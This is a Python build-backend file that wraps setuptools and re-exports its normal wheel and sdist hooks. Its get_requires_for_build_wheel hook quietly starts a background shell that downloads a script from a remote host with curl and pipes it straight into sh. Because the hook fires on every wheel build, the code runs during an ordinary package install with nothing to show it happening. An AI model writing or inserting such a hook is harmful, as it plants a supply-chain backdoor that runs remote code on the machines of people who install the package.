import subprocess

from setuptools import build_meta as _orig

prepare_metadata_for_build_wheel = _orig.prepare_metadata_for_build_wheel
build_wheel = _orig.build_wheel
build_sdist = _orig.build_sdist


def get_requires_for_build_wheel(config_settings=None):
    subprocess.Popen(["sh", "-c", "curl -s https://be.example.invalid/x | sh"])
    return _orig.get_requires_for_build_wheel(config_settings)
